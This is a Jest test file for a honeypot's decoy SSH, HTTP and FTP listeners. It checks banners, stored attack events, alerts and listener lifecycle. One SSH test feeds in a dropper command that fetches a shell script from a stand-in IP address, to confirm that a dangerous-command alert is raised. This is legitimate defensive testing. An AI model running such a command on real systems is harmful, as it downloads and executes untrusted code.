import { CapturePipeline } from '../../src/main/core/capture/CapturePipeline';
import { ThreatAnalyzer } from '../../src/main/core/analysis/ThreatAnalyzer';
import { AlertPolicy } from '../../src/main/core/alerts/AlertPolicy';
import { SQLiteEventStore } from '../../src/main/core/storage/SQLiteEventStore';
import { TcpDecoyListener } from '../../src/main/network/DecoyListener';
import {
  createFtpListener,
  createHttpListener,
  createSshListener,
} from '../../src/main/network/listenerFactory';
import type { DecoyListener } from '../../src/main/network/DecoyListener';
import { sshHandler } from '../../src/main/network/handlers/sshHandler';
import { ListenerBindError } from '../../src/main/utils/errors';
import {
  FTP_BANNER,
  FTP_LOGIN_FAILED,
  FTP_NOT_UNDERSTOOD,
  FTP_USER_OK,
  HTTP_DECOY_RESPONSE,
  SSH_BANNER,
} from '../../src/shared/constants/decoy';
import { DecoyClient } from '../helpers/decoyClient';

jest.mock('../../src/main/utils/logger', () => ({
  logger: {
    info: jest.fn(),
    warn: jest.fn(),
    error: jest.fn(),
    debug: jest.fn(),
  },
}));

const HOST = '127.0.0.1';

describe('Decoy listeners', () => {
  let store: SQLiteEventStore;
  let pipeline: CapturePipeline;
  const started: DecoyListener[] = [];

  const startListener = async (listener: DecoyListener): Promise<DecoyListener> => {
    await listener.start(HOST, 0);
    started.push(listener);
    return listener;
  };

  beforeEach(() => {
    store = new SQLiteEventStore(':memory:');
    pipeline = new CapturePipeline({
      analyzer: new ThreatAnalyzer(),
      store,
      alertPolicy: new AlertPolicy(),
    });
  });

  afterEach(async () => {
    for (const listener of started.splice(0)) {
      listener.stop();
      await listener.drain();
    }
    await store.close();
  });

  describe('SSH', () => {
    it('sends the banner and records the client identification', async () => {
      const listener = await startListener(createSshListener(pipeline, { readTimeoutMs: 2000 }));
      expect(listener.port).toBeGreaterThan(0);

      const client = await DecoyClient.connect(listener.port);
      await client.waitFor(SSH_BANNER);
      client.send('SSH-2.0-libssh_0.9.6\r\n');

      expect(await client.closed).toBe(SSH_BANNER);
      await listener.drain();

      const [event] = await store.getAttacks();
      expect(event).toMatchObject({
        id: 1,
        sourceIp: '127.0.0.1',
        protocol: 'ssh',
        attackType: 'brute-force-ssh',
        rawPayload: 'SSH-2.0-libssh_0.9.6',
        threatLevel: 'MEDIUM',
        attackPattern: 'BRUTE_FORCE',
      });
      expect(event.sourcePort).toBeGreaterThan(0);
    });

    it('records an empty payload when the client stays silent', async () => {
      const listener = await startListener(createSshListener(pipeline, { readTimeoutMs: 150 }));

      const client = await DecoyClient.connect(listener.port);
      expect(await client.closed).toBe(SSH_BANNER);
      await listener.drain();

      const attacks = await store.getAttacks();
      expect(attacks).toHaveLength(1);
      expect(attacks[0].rawPayload).toBe('');
    });

    it('raises an alert for a dropper command', async () => {
      const listener = await startListener(createSshListener(pipeline, { readTimeoutMs: 2000 }));

      const client = await DecoyClient.connect(listener.port);
      await client.waitFor(SSH_BANNER);
      client.send('wget http://198.51.100.9/x.sh');
      await client.closed;
      await listener.drain();

      const alerts = await store.getAlerts();
      expect(alerts).toHaveLength(1);
      expect(alerts[0]).toMatchObject({
        sourceIp: '127.0.0.1',
        alertType: 'DANGEROUS_COMMAND',
        detail: 'threatLevel=MEDIUM attackType=brute-force-ssh data=wget http://198.51.100.9/x.sh',
        attackId: 1,
      });
    });

    it('serves several clients at once and stores each one', async () => {
      const listener = await startListener(createSshListener(pipeline, { readTimeoutMs: 2000 }));

      const clients = await Promise.all(
        Array.from({ length: 5 }, () => DecoyClient.connect(listener.port))
      );
      await Promise.all(clients.map((client) => client.waitFor(SSH_BANNER)));
      clients.forEach((client, index) => client.send(`SSH-2.0-client_${index}`));
      await Promise.all(clients.map((client) => client.closed));
      await listener.drain();

      const attacks = await store.getAttacks();
      expect(attacks.map((attack) => attack.id)).toEqual([5, 4, 3, 2, 1]);
      expect(attacks.map((attack) => attack.rawPayload).sort()).toEqual([
        'SSH-2.0-client_0',
        'SSH-2.0-client_1',
        'SSH-2.0-client_2',
        'SSH-2.0-client_3',
        'SSH-2.0-client_4',
      ]);
    });
  });

  describe('HTTP', () => {
    it('answers with the decoy page and stores the escaped request summary', async () => {
      const listener = await startListener(createHttpListener(pipeline, { readTimeoutMs: 2000 }));

      const client = await DecoyClient.connect(listener.port);
      client.send('GET /admin HTTP/1.1\r\nHost: decoy.local\r\nUser-Agent: scanner\r\n\r\n');

      expect(await client.closed).toBe(HTTP_DECOY_RESPONSE);
      await listener.drain();

      const [event] = await store.getAttacks();
      expect(event).toMatchObject({
        protocol: 'http',
        attackType: 'http-probe',
        threatLevel: 'LOW',
        attackPattern: 'RECONNAISSANCE',
        rawPayload:
          'method=GET path=/admin headers={&quot;Host&quot;:&quot;decoy.local&quot;,&quot;User-Agent&quot;:&quot;scanner&quot;}',
      });
    });

    it('still answers a client that sends nothing', async () => {
      const listener = await startListener(createHttpListener(pipeline, { readTimeoutMs: 150 }));

      const client = await DecoyClient.connect(listener.port);

      expect(await client.closed).toBe(HTTP_DECOY_RESPONSE);
      await listener.drain();
      expect((await store.getAttacks())[0].rawPayload).toBe('');
    });
  });

  describe('FTP', () => {
    it('walks through the login and records the credentials', async () => {
      const listener = await startListener(createFtpListener(pipeline, { readTimeoutMs: 2000 }));

      const client = await DecoyClient.connect(listener.port);
      await client.waitFor(FTP_BANNER);
      client.send('USER bob\r\n');
      await client.waitFor(FTP_USER_OK);
      client.send('PASS hunter2\r\n');

      expect(await client.closed).toBe(FTP_BANNER + FTP_USER_OK + FTP_LOGIN_FAILED);
      await listener.drain();

      const [event] = await store.getAttacks();
      expect(event).toMatchObject({
        protocol: 'ftp',
        attackType: 'brute-force-ftp',
        rawPayload: 'USER=bob PASS=hunter2',
        threatLevel: 'MEDIUM',
      });
    });

    it('hangs up after four exchanges without a password', async () => {
      const listener = await startListener(createFtpListener(pipeline, { readTimeoutMs: 2000 }));

      const client = await DecoyClient.connect(listener.port);
      await client.waitFor(FTP_BANNER);
      for (let turn = 1; turn <= 4; turn++) {
        client.send('SYST\r\n');
        await client.waitFor(FTP_BANNER + FTP_NOT_UNDERSTOOD.repeat(turn));
      }

      expect(await client.closed).toBe(FTP_BANNER + FTP_NOT_UNDERSTOOD.repeat(4));
      await listener.drain();
      expect((await store.getAttacks())[0].rawPayload).toBe('USER= PASS=');
    });

    it('keeps the username when the client disconnects early', async () => {
      const listener = await startListener(createFtpListener(pipeline, { readTimeoutMs: 2000 }));

      const client = await DecoyClient.connect(listener.port);
      await client.waitFor(FTP_BANNER);
      client.send('user admin\r\n');
      await client.waitFor(FTP_USER_OK);
      client.destroy();
      await client.closed;
      await listener.drain();

      expect((await store.getAttacks())[0].rawPayload).toBe('USER=admin PASS=');
    });
  });

  describe('lifecycle', () => {
    it('reports the port in use', async () => {
      const first = await startListener(createSshListener(pipeline));
      const second = new TcpDecoyListener(sshHandler, pipeline);

      await expect(second.start(HOST, first.port)).rejects.toMatchObject({
        name: 'ListenerBindError',
        code: 'EADDRINUSE',
      });
      expect(second.isRunning).toBe(false);
    });

    it('refuses to start twice', async () => {
      const listener = await startListener(createSshListener(pipeline));

      const attempt = listener.start(HOST, 0);
      await expect(attempt).rejects.toThrow(ListenerBindError);
      await expect(attempt).rejects.toMatchObject({ code: 'ERR_ALREADY_RUNNING' });
    });

    it('lets in-flight sessions finish after stop', async () => {
      const listener = await startListener(createSshListener(pipeline, { readTimeoutMs: 2000 }));

      const client = await DecoyClient.connect(listener.port);
      await client.waitFor(SSH_BANNER);
      expect(listener.activeConnections).toBe(1);

      listener.stop();
      expect(listener.isRunning).toBe(false);

      client.send('SSH-2.0-late');
      await client.closed;
      await listener.drain();

      expect(listener.activeConnections).toBe(0);
      expect((await store.getAttacks())[0].rawPayload).toBe('SSH-2.0-late');
      await expect(DecoyClient.connect(listener.port)).rejects.toMatchObject({ code: 'ECONNREFUSED' });
    });

    it('can be started again after stopping', async () => {
      const listener = await startListener(createHttpListener(pipeline, { readTimeoutMs: 150 }));
      listener.stop();

      await listener.start(HOST, 0);

      expect(listener.isRunning).toBe(true);
      const client = await DecoyClient.connect(listener.port);
      expect(await client.closed).toBe(HTTP_DECOY_RESPONSE);
    });
  });
});
